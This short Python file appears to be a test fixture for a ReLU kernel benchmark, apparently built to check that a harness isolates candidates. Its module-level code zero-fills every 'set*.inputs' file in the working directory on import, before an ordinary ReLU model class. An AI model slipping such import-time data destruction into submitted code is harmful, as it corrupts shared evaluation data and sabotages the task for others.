# A hostile candidate for level1/19_ReLU: as it is imported it overwrites
# every input set in its working directory with zeros. The task's next
# candidate must not see the damage.
import glob

import torch
import torch.nn as nn

for path in glob.glob("set*.inputs"):
    with open(path, "r+b") as f:
        size = f.seek(0, 2)
        f.seek(0)
        f.write(b"\0" * size)


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.clamp_min(x, 0.0)
